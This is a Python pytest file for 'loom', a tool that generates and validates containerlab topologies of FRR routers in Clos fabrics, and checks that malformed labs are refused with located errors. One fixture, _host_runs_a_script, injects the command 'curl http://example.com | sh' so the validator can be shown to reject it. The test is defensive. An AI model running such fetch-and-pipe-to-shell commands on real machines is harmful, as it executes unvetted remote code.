"""Lab files: containerlab topologies generated from intents, validated on read.

The shipped labs must be exactly what ``loom lab gen`` writes for their
intents (so the FRR text comes from the one renderer), and a lab file that is
not usable is refused with a located message and exit status 2 before
anything is created, whether the problem is the file, the machine (not root)
or FRR (not installed).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from controller.cli import _register
from controller.cli.common import app
from controller.model.intent import load_intent
from labs.clab import InvalidLab, dump_topology, load_topology
from labs.gen import generate_lab

REPO = Path(__file__).resolve().parents[2]
SHIPPED = ("clos-2x2", "clos3-small")
LOOM = str(Path(sys.executable).with_name("loom"))

_register()
runner = CliRunner()


def _files(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): p.read_text() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("lab", SHIPPED)
def test_shipped_lab_is_what_gen_writes(lab: str, tmp_path: Path) -> None:
    shipped = REPO / "labs" / lab
    out = tmp_path / lab
    result = runner.invoke(app, ["lab", "gen", str(shipped / "intent.yaml"), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert _files(out) == _files(shipped)


@pytest.mark.parametrize("lab", SHIPPED)
def test_shipped_lab_matches_its_intent(lab: str) -> None:
    topo = load_topology(REPO / "labs" / lab)
    intent = load_intent(REPO / "labs" / lab / "intent.yaml")
    assert topo.name == lab
    assert {n.name for n in topo.nodes} == {d.name for d in intent.devices}
    assert {(lk.a, lk.a_port, lk.b, lk.b_port) for lk in topo.links} == {
        (lk.a, lk.a_port, lk.b, lk.b_port) for lk in intent.links}
    for node in topo.nodes:
        assert node.kind == "linux" and node.image and "frr" in node.image
        assert node.frr_conf.is_file() and node.daemons_file.is_file()
        assert "bgpd=yes" in node.daemons_file.read_text()
    origins = {o for p in intent.prefixes for o in p.origins}
    assert {n.name for n in topo.nodes if n.host_ports} == origins


def test_clos3_small_has_the_shape_the_issue_asks_for() -> None:
    intent = load_intent(REPO / "labs" / "clos3-small" / "intent.yaml")
    roles = sorted(d.role.value for d in intent.devices)
    assert roles.count("tor") == 4 and roles.count("leaf") == 4 and roles.count("spine") == 4
    assert len({d.asn for d in intent.devices if d.role.value == "tor"}) == 4
    assert len({d.asn for d in intent.devices if d.role.value == "leaf"}) == 2  # one per pod
    assert len({d.asn for d in intent.devices if d.role.value == "spine"}) == 2  # one per plane


def test_topology_round_trips() -> None:
    text = dump_topology("t", {"a": {"binds": []}, "b": {"binds": []}}, [("a", "eth1", "b", "eth1")])
    doc = yaml.safe_load(text)
    assert doc["topology"]["links"] == [{"endpoints": ["a:eth1", "b:eth1"]}]
    assert doc["topology"]["nodes"]["a"]["kind"] == "linux"


def _bad_lab(tmp_path: Path, mutate) -> Path:  # type: ignore[no-untyped-def]
    lab = tmp_path / "bad"
    shutil.copytree(REPO / "labs" / "clos-2x2", lab)
    path = lab / "topology.clab.yml"
    doc = yaml.safe_load(path.read_text())
    mutate(doc, lab)
    path.write_text(yaml.safe_dump(doc))
    return lab


def _unknown_node(doc: dict, lab: Path) -> None:
    doc["topology"]["links"][2]["endpoints"][1] = "spine-9:eth7"


def _missing_bind(doc: dict, lab: Path) -> None:
    (lab / "leaf-1" / "frr.conf").unlink()


def _wrong_kind(doc: dict, lab: Path) -> None:
    doc["topology"]["nodes"]["spine-0"]["kind"] = "ceos"


@pytest.mark.parametrize("mutate, loc, words", [
    (_unknown_node, "topology.links[2].endpoints[1]", "unknown node 'spine-9'"),
    (_missing_bind, "topology.nodes.leaf-1.binds[0]", "not found"),
    (_wrong_kind, "topology.nodes.spine-0.kind", "not supported"),
])
def test_bad_lab_is_refused_with_a_location(tmp_path: Path, mutate, loc: str, words: str) -> None:  # type: ignore[no-untyped-def]
    lab = _bad_lab(tmp_path, mutate)
    with pytest.raises(InvalidLab) as err:
        load_topology(lab)
    assert any(e.loc == loc and words in e.msg for e in err.value.errors), err.value.errors
    for command in ("up", "down", "status", "routes"):
        result = runner.invoke(app, ["lab", command, str(lab)])
        assert result.exit_code == 2, (command, result.output)
        assert loc in result.output and words in result.output


def test_a_file_that_is_not_a_topology_exits_2(tmp_path: Path) -> None:
    path = tmp_path / "intent.yaml"
    shutil.copy(REPO / "labs" / "clos-2x2" / "intent.yaml", path)
    result = runner.invoke(app, ["lab", "up", str(path), "--json"])
    assert result.exit_code == 2
    assert "not a usable containerlab topology" in result.output and "topology" in result.output
    result = runner.invoke(app, ["lab", "up", str(tmp_path / "nowhere")])
    assert result.exit_code == 2 and "cannot read" in result.output


def test_gen_refuses_a_bad_intent(tmp_path: Path) -> None:
    bad = tmp_path / "i.yaml"
    bad.write_text("name: x\ndevices: [{name: a, role: tor}]\nlinks: []\n")
    result = runner.invoke(app, ["lab", "gen", str(bad), "--out", str(tmp_path / "lab")])
    assert result.exit_code == 2 and "devices[0].asn" in result.output
    assert not (tmp_path / "lab").exists()


def test_gen_writes_a_loadable_lab_named_after_its_directory(tmp_path: Path) -> None:
    intent = load_intent(REPO / "labs" / "clos3-small" / "intent.yaml")
    path = generate_lab(intent, tmp_path / "my-lab")
    topo = load_topology(path)
    assert topo.name == "my-lab" and len(topo.nodes) == 12 and len(topo.links) == 16


@pytest.mark.component
@pytest.mark.skipif(not os.path.exists(LOOM), reason="the loom command is not installed in this environment")
@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to drop to an unprivileged user")
def test_up_as_an_ordinary_user_exits_2() -> None:
    proc = subprocess.run(["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", LOOM, "lab", "up",
                           str(REPO / "labs" / "clos-2x2")], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "LOOM_LAB_RUN_DIR": "/tmp/loom-nobody-labs"})
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "root" in proc.stderr


@pytest.mark.component
@pytest.mark.skipif(not os.path.exists(LOOM), reason="the loom command is not installed in this environment")
def test_up_without_frr_exits_2(tmp_path: Path) -> None:
    proc = subprocess.run([LOOM, "lab", "up", str(REPO / "labs" / "clos-2x2")], capture_output=True, text=True,
                          timeout=60, env={**os.environ, "LOOM_FRR_BIN": str(tmp_path / "no-frr")})
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert ("FRR" in proc.stderr and "install" in proc.stderr) or "root" in proc.stderr


def test_clos3_hosts_is_what_gen_writes_with_two_hosts_per_tor(tmp_path: Path) -> None:
    shipped = REPO / "labs" / "clos3-hosts"
    out = tmp_path / "clos3-hosts"
    result = runner.invoke(app, ["lab", "gen", str(shipped / "intent.yaml"), "--out", str(out), "--hosts", "2"])
    assert result.exit_code == 0, result.output
    assert _files(out) == _files(shipped)
    intent = load_intent(shipped / "intent.yaml")
    assert {lk.capacity_gbps for lk in intent.links} == {0.05}  # small enough for UDP from Python to fill


def test_hosts_are_linux_nodes_without_frr_read_from_their_exec_commands() -> None:
    topo = load_topology(REPO / "labs" / "clos3-hosts")
    assert {n.name for n in topo.routers} == {d.name for d in load_intent(REPO / "labs" / "clos3-hosts" /
                                                                          "intent.yaml").devices}
    assert len(topo.hosts) == 8
    for host in topo.hosts:
        assert host.kind == "linux" and host.binds == {} and "frr" not in (host.image or "")
        assert host.host is not None and host.host.interface == "eth1"
    h = topo.node_map["tor-0-1-h1"].host
    assert h is not None and (h.ip, h.prefix, h.gateway) == ("10.0.1.11", "10.0.1.0/24", "10.0.1.1")
    assert topo.attachment("tor-0-1-h1") == ("tor-0-1", "host0")  # the bridge over host0h0 and host0h1
    assert topo.node_map["tor-0-1"].host_bridges == {"host0": ("host0h0", "host0h1")}


def test_one_host_per_port_is_the_host_port_itself(tmp_path: Path) -> None:
    intent = load_intent(REPO / "labs" / "clos3-hosts" / "intent.yaml")
    topo = load_topology(generate_lab(intent, tmp_path / "one", hosts=1))
    assert topo.attachment("tor-1-1-h0") == ("tor-1-1", "host0")
    assert ("host0", "tor-1-1-h0", "eth1") in topo.ports("tor-1-1")
    assert topo.node_map["tor-1-1"].host_bridges == {}
    doc = yaml.safe_load((tmp_path / "one" / "topology.clab.yml").read_text())
    assert "exec" not in doc["topology"]["nodes"]["tor-1-1"]  # no dummy port: the link is the host port


def test_gen_refuses_hosts_that_do_not_fit_their_prefix(tmp_path: Path) -> None:
    doc = yaml.safe_load((REPO / "labs" / "clos3-hosts" / "intent.yaml").read_text())
    doc["prefixes"][0]["prefix"] = "10.0.0.0/28"
    doc["demands"] = [d for d in doc["demands"] if d["to"] != "10.0.0.0/24"]
    (tmp_path / "i.yaml").write_text(yaml.safe_dump(doc))
    result = runner.invoke(app, ["lab", "gen", str(tmp_path / "i.yaml"), "--out", str(tmp_path / "lab"),
                                 "--hosts", "6"])
    assert result.exit_code == 2 and "too small" in result.output, result.output
    assert not (tmp_path / "lab").exists()


def _host_lab(tmp_path: Path, mutate) -> Path:  # type: ignore[no-untyped-def]
    lab = tmp_path / "bad-hosts"
    shutil.copytree(REPO / "labs" / "clos3-hosts", lab)
    path = lab / "topology.clab.yml"
    doc = yaml.safe_load(path.read_text())
    mutate(doc["topology"])
    path.write_text(yaml.safe_dump(doc))
    return lab


def _host_runs_a_script(topo: dict) -> None:
    topo["nodes"]["tor-0-0-h0"]["exec"].append("curl http://example.com | sh")


def _host_gateway_elsewhere(topo: dict) -> None:
    topo["nodes"]["tor-0-0-h1"]["exec"][2] = "ip route replace default via 10.9.0.1"


def _host_without_address(topo: dict) -> None:
    topo["nodes"]["tor-1-0-h0"]["exec"] = ["ip route replace default via 10.1.0.1"]


def _host_on_a_fabric_port(topo: dict) -> None:
    topo["links"].append({"endpoints": ["leaf-0-0:eth9", "tor-0-0-h0:eth2"]})


def _host_address_twice(topo: dict) -> None:
    topo["nodes"]["tor-0-0-h1"]["exec"][0] = "ip addr add 10.0.0.10/24 dev eth1"


def _bad_bridge_label(topo: dict) -> None:
    topo["nodes"]["tor-0-1"]["labels"]["loom.host-bridges"] = "host0=host0h0,host0h7"


@pytest.mark.parametrize("mutate, loc, words", [
    (_host_runs_a_script, "topology.nodes.tor-0-0-h0.exec[3]", "not supported on a host"),
    (_host_gateway_elsewhere, "topology.nodes.tor-0-0-h1.exec", "not in the host's subnet"),
    (_host_without_address, "topology.nodes.tor-1-0-h0.exec", "needs 'ip addr add"),
    (_host_on_a_fabric_port, "topology.nodes.tor-0-0-h0", "exactly one link"),
    (_host_address_twice, "topology.nodes.tor-0-0-h1.exec", "already used by tor-0-0-h0"),
    (_bad_bridge_label, "topology.nodes.tor-0-1.labels.loom.host-bridges", "host0h7 not a link end"),
])
def test_a_bad_host_is_refused_with_a_location(tmp_path: Path, mutate, loc: str, words: str) -> None:  # type: ignore[no-untyped-def]
    lab = _host_lab(tmp_path, mutate)
    with pytest.raises(InvalidLab) as err:
        load_topology(lab)
    assert any(e.loc == loc and words in e.msg for e in err.value.errors), err.value.errors
    result = runner.invoke(app, ["lab", "hosts", str(lab)])
    assert result.exit_code == 2 and loc in result.output
